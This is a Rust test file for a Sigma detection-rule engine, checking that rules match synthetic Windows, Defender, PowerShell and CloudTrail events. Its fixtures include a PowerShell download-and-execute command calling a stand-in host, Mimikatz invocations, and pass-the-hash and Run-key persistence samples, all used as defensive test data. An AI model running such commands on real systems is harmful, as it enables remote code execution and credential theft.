//! The logs rules target beyond Sysmon, on hand-made events in the shape the `evtx` crate gives
//! (the field names and values of Microsoft's documentation of each event), run through real
//! SigmaHQ and mdecrevoisier rules: Security 4688/5156/4657, WMI-Activity 5861, Defender,
//! PowerShellCore, padded logon fields, CloudTrail JSON lines, Sigma 1 aggregations.

use engine::{Event, Logsources, Ruleset, Tag, read_json};
use std::path::{Path, PathBuf};

fn corpus(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpora")
        .join(path)
}

fn ruleset(paths: &[&str]) -> Ruleset {
    let texts: Vec<(String, String)> = paths
        .iter()
        .map(|p| (p.to_string(), std::fs::read_to_string(corpus(p)).unwrap()))
        .collect();
    let set = Ruleset::compile(
        texts.iter().map(|(p, t)| (p.as_str(), t.as_str())),
        &Logsources::builtin(),
    );
    assert!(set.skipped.is_empty(), "{:?}", set.skipped);
    set
}

/// A Windows event: channel, id, event data members (JSON).
fn windows(channel: &str, id: u32, data: &str) -> Event {
    let json = format!(
        r##"{{"Event": {{"System": {{"Channel": "{channel}", "EventID": {id}, "Computer": "WS1", "TimeCreated": {{"#attributes": {{"SystemTime": "2024-05-01T10:00:00.000000Z"}}}}}}, "EventData": {{{data}}}}}}}"##
    );
    let (mut evs, errors) = read_json(&json, "t.json");
    assert!(errors.is_empty(), "{errors:?}");
    evs.remove(0)
}

fn titles(set: &Ruleset, ev: &Event) -> Vec<String> {
    set.matches(ev).iter().map(|r| r.title.clone()).collect()
}

const WHOAMI: &str =
    "sigma/rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml";

#[test]
fn process_creation_reads_security_4688_with_sigma_names() {
    let set = ruleset(&[WHOAMI]);
    let sysmon = windows(
        "Microsoft-Windows-Sysmon/Operational",
        1,
        r#""Image": "C:\\Windows\\System32\\whoami.exe", "OriginalFileName": "whoami.exe", "CommandLine": "whoami /all""#,
    );
    let security = windows(
        "Security",
        4688,
        r#""SubjectUserName": "alice", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7", "NewProcessId": "0x1a2c", "NewProcessName": "C:\\Windows\\System32\\whoami.exe", "ProcessId": "0x10", "CommandLine": "whoami /all", "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288""#,
    );
    assert_eq!(titles(&set, &sysmon), titles(&set, &security));
    assert_eq!(titles(&set, &security).len(), 1);
    let field = |f: &str| security.get(f)[0].0.text().unwrap().to_string();
    assert_eq!(field("Image"), "C:\\Windows\\System32\\whoami.exe");
    assert_eq!(field("ParentImage"), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(field("User"), "CORP\\alice");
    assert_eq!(field("ProcessId"), "6700");
    assert_eq!(field("ParentProcessId"), "16");
    assert_eq!(field("IntegrityLevel"), "High");
    // another Security event with the same fields is not a process creation
    let other = windows(
        "Security",
        4689,
        r#""ProcessName": "C:\\Windows\\System32\\whoami.exe", "NewProcessName": "C:\\Windows\\System32\\whoami.exe""#,
    );
    assert!(titles(&set, &other).is_empty());
    // matched fields name the Sigma field
    let rule = set.matches(&security)[0];
    let why = rule.explain(&security);
    assert!(
        why.iter()
            .any(|m| m.field == "Image" && m.value.ends_with("whoami.exe")),
        "{why:?}"
    );
}

#[test]
fn network_connection_reads_security_5156() {
    let rule = "title: t\nlogsource:\n    category: network_connection\n    product: windows\ndetection:\n    sel:\n        Image|endswith: '\\powershell.exe'\n        Initiated: 'true'\n        DestinationPort: 4444\n        DestinationIp|cidr: '10.0.0.0/8'\n    condition: sel\n";
    let set = Ruleset::compile([("r.yml", rule)], &Logsources::builtin());
    let ev = |direction: &str| {
        windows(
            "Security",
            5156,
            &format!(
                r#""ProcessID": "4242", "Application": "\\device\\harddiskvolume2\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "Direction": "{direction}", "SourceAddress": "10.1.1.5", "SourcePort": "50123", "DestAddress": "10.9.9.9", "DestPort": "4444", "Protocol": "6""#
            ),
        )
    };
    assert_eq!(set.matches(&ev("%%14593")).len(), 1);
    assert!(set.matches(&ev("%%14592")).is_empty(), "inbound");
}

#[test]
fn registry_rules_read_security_4657() {
    let rule = "title: t\nlogsource:\n    category: registry_set\n    product: windows\ndetection:\n    sel:\n        TargetObject|startswith: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\'\n        Details|contains: 'evil'\n    condition: sel\n";
    let set = Ruleset::compile([("r.yml", rule)], &Logsources::builtin());
    let ev = |op: &str| {
        windows(
            "Security",
            4657,
            &format!(
                r#""ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "ObjectValueName": "updater", "OperationType": "{op}", "NewValue": "C:\\evil.exe", "ProcessName": "C:\\Windows\\regedit.exe", "ProcessId": "0x44""#
            ),
        )
    };
    let modified = ev("%%1905");
    assert_eq!(set.matches(&modified).len(), 1);
    assert_eq!(
        modified.get("TargetObject")[0].0.text(),
        Some("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater")
    );
    // a new value is registry_add, not registry_set
    assert!(set.matches(&ev("%%1904")).is_empty());
}

#[test]
fn wmi_event_reads_wmi_activity_5861() {
    let set = ruleset(&["sigma/rules/windows/wmi_event/sysmon_wmi_susp_scripting.yml"]);
    let ev = windows(
        "Microsoft-Windows-WMI-Activity/Operational",
        5861,
        r#""Namespace": "//./root/subscription", "ESS": "Updater", "CONSUMER": "CommandLineEventConsumer=\"Updater\"", "PossibleCause": "Binding EventFilter: ... Perm. Consumer: CommandLineEventConsumer=\"Updater\"; CommandLineTemplate = \"powershell -nop -c iex(new-object net.webclient).downloadstring('http://x')\"""#,
    );
    // the 5861 event's fields are UserData in the real log: its members land under their names
    assert_eq!(titles(&set, &ev).len(), 1);
}

#[test]
fn antivirus_reads_defender_detections() {
    let set = ruleset(&["sigma/rules/category/antivirus/av_hacktool.yml"]);
    let ev = |id: u32| {
        windows(
            "Microsoft-Windows-Windows Defender/Operational",
            id,
            r#""Threat Name": "HackTool:Win32/Mimikatz!pz", "Path": "file:_C:\\Users\\bob\\Downloads\\mimikatz.exe", "Severity Name": "High""#,
        )
    };
    for id in [1006, 1116, 1117] {
        let ev = ev(id);
        let fired = titles(&set, &ev).len();
        // 1117 (action taken) is not among the detection events the category covers
        assert_eq!(fired, usize::from(id != 1117), "event {id}");
    }
    let ev = ev(1116);
    assert_eq!(
        ev.get("Filename")[0].0.text(),
        Some("C:\\Users\\bob\\Downloads\\mimikatz.exe")
    );
}

#[test]
fn ps_script_reads_powershell_core() {
    let rule = "title: t\nlogsource:\n    category: ps_script\n    product: windows\ndetection:\n    sel:\n        ScriptBlockText|contains: 'Invoke-Mimikatz'\n    condition: sel\n";
    let set = Ruleset::compile([("r.yml", rule)], &Logsources::builtin());
    for channel in [
        "Microsoft-Windows-PowerShell/Operational",
        "PowerShellCore/Operational",
    ] {
        let ev = windows(
            channel,
            4104,
            r#""ScriptBlockText": "Invoke-Mimikatz -Dump""#,
        );
        assert_eq!(set.matches(&ev).len(), 1, "{channel}");
    }
}

#[test]
fn padded_logon_fields_match_equality_and_nothing_else_is_trimmed() {
    let set = ruleset(&[
        "sigma/rules/windows/builtin/security/account_management/win_security_pass_the_hash_2.yml",
    ]);
    let logon = |process: &str| {
        windows(
            "Security",
            4624,
            &format!(
                r#""SubjectUserSid": "S-1-0-0", "LogonType": "3", "LogonProcessName": "{process}", "KeyLength": "0", "TargetUserName": "bob""#
            ),
        )
    };
    assert_eq!(titles(&set, &logon("NtLmSsp ")).len(), 1);
    assert_eq!(titles(&set, &logon("NtLmSsp")).len(), 1);
    assert!(titles(&set, &logon("Kerberos")).is_empty());
    // the padded value is kept beside the trimmed one
    let ev = logon("NtLmSsp ");
    let values: Vec<_> = ev
        .get("LogonProcessName")
        .iter()
        .map(|(v, _)| v.text().unwrap())
        .collect();
    assert_eq!(values, ["NtLmSsp ", "NtLmSsp"]);
    // other fields keep their blanks: a leading or trailing space can be meaningful
    let rule = "title: t\nlogsource:\n    product: windows\n    service: security\ndetection:\n    sel:\n        CommandLine: 'a'\n    condition: sel\n";
    let set = Ruleset::compile([("r.yml", rule)], &Logsources::builtin());
    assert!(
        set.matches(&windows("Security", 4688, r#""CommandLine": "a ""#))
            .is_empty()
    );
}

#[test]
fn cloudtrail_json_lines_are_recognized_or_given() {
    let set = ruleset(&["sigma/rules/cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml"]);
    let line = r#"{"eventVersion": "1.08", "eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging", "awsRegion": "us-east-1", "eventTime": "2024-05-01T10:00:00Z"}"#;
    let (evs, _) = read_json(line, "ct.jsonl");
    assert_eq!(
        evs[0].logsource,
        Some(Tag::parse("product=aws,service=cloudtrail").unwrap())
    );
    assert_eq!(set.matches(&evs[0]).len(), 1);
    // without the fields that make it recognizable, only when the user names the logsource
    let bare = r#"{"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"}"#;
    let (mut evs, _) = read_json(bare, "ct.jsonl");
    assert!(set.matches(&evs[0]).is_empty());
    evs[0].logsource = Some(Tag::parse("product=aws,service=cloudtrail").unwrap());
    assert_eq!(set.matches(&evs[0]).len(), 1);
    // a Windows rule does not read it
    let set = ruleset(&[WHOAMI]);
    assert!(set.matches(&evs[0]).is_empty());
}

#[test]
fn sigma1_aggregations_run_as_correlations() {
    let rule = "title: Many services\nlogsource:\n    product: windows\n    service: system\ndetection:\n    selection:\n        EventID: 7045\n    timeframe: 5m\n    condition: selection | count(ServiceName) by Computer > 2\nlevel: high\n";
    let set = Ruleset::compile([("r.yml", rule)], &Logsources::builtin());
    assert!(set.skipped.is_empty(), "{:?}", set.skipped);
    assert!(set.rules[0].aggregated);
    assert_eq!(set.correlations.len(), 1);
    let ev = |minute: u32, service: &str| {
        let json = format!(
            r##"{{"Event": {{"System": {{"Channel": "System", "EventID": 7045, "Computer": "WS1", "TimeCreated": {{"#attributes": {{"SystemTime": "2024-05-01T10:{minute:02}:00Z"}}}}}}, "EventData": {{"ServiceName": "{service}"}}}}}}"##
        );
        read_json(&json, &format!("s{minute}")).0.remove(0)
    };
    // three distinct services within 5 minutes; the same service twice counts once
    let events = [ev(0, "a"), ev(1, "a"), ev(2, "b"), ev(3, "c")];
    let hits: Vec<Vec<usize>> = events.iter().map(|e| set.match_indexes(e)).collect();
    let fired = set.correlate(&events, &hits);
    assert_eq!(fired.len(), 1, "{fired:?}");
    assert_eq!(fired[0].count, 3);
    assert_eq!(
        fired[0].group,
        [("Computer".to_string(), "WS1".to_string())]
    );
    // spread over more than the timeframe: nothing
    let events = [ev(0, "a"), ev(10, "b"), ev(20, "c")];
    let hits: Vec<Vec<usize>> = events.iter().map(|e| set.match_indexes(e)).collect();
    assert!(set.correlate(&events, &hits).is_empty());
}

/// Every mdecrevoisier rule with a `count()` aggregation compiles into a rule and its
/// correlation; other aggregations are left out with the reason.
#[test]
fn mdecrevoisier_aggregations_compile() {
    let root = corpus("mdecrevoisier");
    let mut files = vec![];
    let mut stack = vec![root];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|e| e == "yaml" || e == "yml") {
                files.push(p);
            }
        }
    }
    let texts: Vec<(String, String)> = files
        .iter()
        .filter_map(|p| Some((p.display().to_string(), std::fs::read_to_string(p).ok()?)))
        .filter(|(_, t)| t.contains("| count("))
        .collect();
    let set = Ruleset::compile(
        texts.iter().map(|(p, t)| (p.as_str(), t.as_str())),
        &Logsources::builtin(),
    );
    let aggregated = set.rules.iter().filter(|r| r.aggregated).count();
    let left_out: Vec<_> = set
        .skipped
        .iter()
        .filter(|s| s.reason.contains("aggregation"))
        .collect();
    eprintln!(
        "{} files with `| count(`: {aggregated} run as correlations, {} aggregations left out",
        texts.len(),
        left_out.len()
    );
    // this snapshot has 31 files with a count; those left out name a logsource with no
    // mapping (mdecrevoisier's own `category: bitlocker`), not for their aggregation
    assert!(left_out.is_empty(), "{left_out:?}");
    assert_eq!(
        aggregated + set.skipped.len(),
        texts.len(),
        "{:?}",
        set.skipped
    );
    assert!(aggregated >= 29, "{aggregated}");
    assert_eq!(set.correlations.len(), aggregated);
}

/// A rule reached twice (a folder given twice, a copy) is compiled and run once, and said.
#[test]
fn a_rule_reached_twice_runs_once() {
    let path = corpus(WHOAMI);
    let text = std::fs::read_to_string(&path).unwrap();
    let set = Ruleset::compile(
        [
            ("a/whoami.yml", text.as_str()),
            ("b/whoami.yml", text.as_str()),
        ],
        &Logsources::builtin(),
    );
    assert_eq!(set.rules.len(), 1);
    assert_eq!(
        set.duplicates,
        [("b/whoami.yml".to_string(), "a/whoami.yml".to_string())]
    );
}
